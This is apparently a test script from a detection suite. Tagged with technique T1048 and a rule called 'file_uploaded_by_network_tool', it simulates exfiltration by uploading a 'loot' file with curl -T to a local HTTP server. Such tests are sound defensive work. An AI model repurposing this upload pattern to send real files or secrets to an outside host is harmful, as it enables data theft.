# technique: T1048 a file sent with curl -T
# rule: file_uploaded_by_network_tool
# exe: /usr/bin/curl
. "$(dirname "$0")/common.bash"
echo data >"$VG_TMP/loot"
serve_http ok
curl -s -T "$VG_TMP/loot" "http://127.0.0.1:$VG_PORT/" >/dev/null || true
